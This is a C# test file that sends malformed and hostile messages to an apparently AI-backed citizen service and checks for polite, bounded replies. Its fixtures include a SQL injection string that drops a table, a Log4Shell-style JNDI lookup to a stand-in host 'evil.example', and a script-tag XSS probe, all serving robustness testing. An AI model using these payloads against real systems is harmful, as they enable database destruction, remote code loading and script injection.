using CleanFte.Integration.Api;
using CleanFte.StandIns;

namespace CleanFte.Integration.Agent;

/// <summary>Messages nobody would want to answer, without a model and with one.</summary>
public abstract class BadMessageTests(RunningHost host)
{
    public static TheoryData<string, string> Messages => new()
    {
        { "long", string.Concat(Enumerable.Repeat("the bench is old ", 3_530)) },
        { "emoji", "😀😡🔥🇪🇸👨‍👩‍👧" },
        { "arabic", "متى تفتح المكتبة يوم السبت؟" },
        { "sql", "'; DROP TABLE tickets; -- \" OR 1=1 /* %s {0} */" },
        { "controls", "\u0001\u0002\u001B[31m\u0007\u200B\u202E\u0085\uFFFE" },
        { "nonsense", "qwpeoiruty zmxncbv 0000 ???? aaaa" },
        { "template", "{{services}} {{marker}} ${jndi:ldap://evil.example} <script>alert(1)</script>" },
    };

    [Theory]
    [MemberData(nameof(Messages))]
    public async Task Whatever_is_written_is_kept_and_answered_politely(string kind, string text)
    {
        Prepare();
        var citizen = new Citizen(host);

        var reply = await citizen.Asks(text);

        reply.Length.ShouldBeInRange(20, 1_600, kind);
        reply.ShouldNotContain("evil");
        reply.ShouldNotContain("DROP TABLE");
        await host.ShouldHaveAnswered(citizen);
        (await host.Events(citizen)).ShouldContain("message_assessed");
        (await host.Run(citizen)).Outcome("decision").ShouldNotBeNull();
    }

    protected virtual void Prepare()
    {
    }
}

[Collection(nameof(SharedHost))]
public sealed class OfflineBadMessageTests(SharedHost host) : BadMessageTests(host);

[Collection(nameof(OpenAiHost))]
public sealed class ModelBadMessageTests(OpenAiHost host) : BadMessageTests(host)
{
    protected override void Prepare() => host.Plan(Said.First(language: "other"), Said.Then("Could you tell us more?", true));
}
